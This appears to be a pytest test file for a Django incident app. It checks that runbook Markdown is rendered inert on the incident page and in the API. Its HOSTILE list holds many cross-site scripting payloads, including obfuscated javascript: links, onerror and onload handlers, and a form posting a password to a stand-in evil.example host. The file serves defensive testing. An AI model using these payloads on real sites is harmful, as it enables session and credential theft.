"""Runbook Markdown is rendered inert: scripts, event handlers, ``javascript:``/``vbscript:``/``data:``/``file:``
links (also obfuscated with case, entities, whitespace or reference definitions), iframes, SVG with ``onload``,
images with ``onerror``, objects, forms, styles and meta refreshes never reach the incident page a responder opens
(asserted on the page's bytes) nor the HTML the API returns, while ordinary Markdown and https links still render.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from html import unescape as html_unescape
from typing import Any

import pytest
from django.test import Client
from rest_framework.test import APIClient

from apps.common.models import User
from apps.incidents.markdown import render_markdown
from apps.incidents.models import Runbook

pytestmark = pytest.mark.django_db

HOSTILE = [
    "<script>alert('script')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(\'img\')">',
    "<img src=x onerror=alert(1)//",
    "[plain](javascript:alert('link'))",
    "[case](JaVaScRiPt:alert(1))",
    "[entity](jav&#x61;script:alert(1))",
    "[tab](java\tscript:alert(1))",
    "[tab-entity](java&#x09;script:alert(1))",
    "[newline-entity](java&#x0A;script:alert(1))",
    "[control](\x01javascript:alert(1))",
    "[spaced](   javascript:alert(1))",
    '<a href="javascript:alert(1)">raw</a>',
    "[reference][evil]\n\n[evil]: javascript:alert('ref')",
    "<javascript:alert('autolink')>",
    "[vb](vbscript:msgbox(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[file](file:///etc/passwd)",
    '<iframe src="https://evil.example/frame"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<svg onload=alert('svg')><circle r=1 /></svg>",
    "<svg><script>alert('svg-script')</script></svg>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body { background: url(javascript:alert(1)) }</style>",
    '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<a href="https://ok.example/runbook" onclick="alert(1)" style="position:fixed" target="_top">safe link</a>',
    '<p onmouseover="alert(1)">hover</p>',
    "```\n<script>alert('in a code block')</script>\n```",
    # Last: an unclosed <style> inside <math> swallows everything after it (removed with it).
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]
BODY = "# Payments failing\n\n| check | where |\n|---|---|\n| gateway | `kubectl` |\n\n" + "\n\n".join(HOSTILE) + "\n"
ALLOWED_SCHEMES = ("https", "http", "mailto")
SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")
DANGEROUS_URL = re.compile(
    rb"""(?:href|src|action|data|srcdoc)\s*=\s*["']?\s*(?:javascript|vbscript|data|file):""", re.I
)
DANGEROUS_TAGS = ("script", "iframe", "svg", "img", "object", "embed", "style", "form", "input", "meta", "base", "link")


def tags_of(html: str) -> list[str]:
    return re.findall(r"<[a-zA-Z][^>]*>", html)


def assert_inert(html: str) -> None:
    """No dangerous element, no event handler or style attribute, no link other than http(s)/mailto/anchors."""
    for tag in tags_of(html):
        name = re.match(r"<([a-zA-Z0-9]+)", tag).group(1).lower()  # type: ignore[union-attr]
        assert name not in DANGEROUS_TAGS, tag
        assert not re.search(r"\s(on[a-z]+|style|srcdoc|target|formaction)\s*=", tag, re.IGNORECASE), tag
        for href in re.findall(r'\s(?:href|src|action|data)\s*=\s*"([^"]*)"', tag):
            # As a browser reads it: tabs and line breaks dropped, leading spaces and control characters ignored.
            url = re.sub(r"[\t\n\r]", "", html_unescape(href)).lstrip("\x00\x01\x02\x03\x04\x05 ")
            scheme = SCHEME.match(url)
            assert scheme is None or scheme.group(1).lower() in ALLOWED_SCHEMES, tag


def runbook_section(html: str) -> str:
    found = re.search(r'<section[^>]*id="runbook".*?</section>', html, re.S)
    assert found, "no runbook section"
    return found.group(0)


@pytest.fixture
def hostile_runbook(db: None) -> Runbook:
    return Runbook.objects.create(slug="hostile", title="Hostile <script>alert('title')</script>", body=BODY)


def test_the_incident_page_renders_a_hostile_runbook_inert(
    hostile_runbook: Runbook, make_incident: Callable[..., Any], make_user: Callable[..., User]
) -> None:
    incident = make_incident(title="<img src=x onerror=alert('incident')>", runbook=hostile_runbook)
    browser = Client()
    browser.force_login(make_user(role="oncall_engineer"))
    response = browser.get(f"/oncall/incidents/{incident.public_id}/")
    assert response.status_code == 200
    page = response.content
    for needle in (b"<script", b"<iframe", b"<svg", b"<img", b"<object", b"<embed", b"<style", b"<base"):
        assert needle not in page, needle
    assert not DANGEROUS_URL.search(page), DANGEROUS_URL.search(page)
    assert not re.search(rb"<[^>]*\son(error|load|click|mouseover)\s*=", page)
    section = runbook_section(page.decode())
    assert_inert(section)
    # Ordinary Markdown still renders, the safe link keeps its target with a safe rel, the code block shows as text.
    assert "<h1>Payments failing</h1>" in section
    assert "<table>" in section
    assert re.search(r'<a href="https://ok.example/runbook" rel="noopener noreferrer nofollow">safe link</a>', section)
    assert "<pre><code>&lt;script&gt;alert('in a code block')&lt;/script&gt;" in section
    assert "&lt;img src=x onerror=alert(&#x27;incident&#x27;)&gt;" in page.decode()


def test_the_api_returns_the_same_inert_html(hostile_runbook: Runbook, token_client: Callable[..., Any]) -> None:
    client: APIClient
    client, _ = token_client("admin")
    response = client.get(f"/api/v1/incidents/runbooks/{hostile_runbook.slug}/")
    assert response.status_code == 200, response.content
    html = response.json()["html"]
    assert html == render_markdown(BODY)
    assert_inert(html)
    assert "<script" not in html


@pytest.mark.parametrize("snippet", HOSTILE)
def test_each_hostile_snippet_is_inert_on_its_own(snippet: str) -> None:
    html = render_markdown(snippet)
    assert_inert(html)
    assert "<script" not in html.lower()
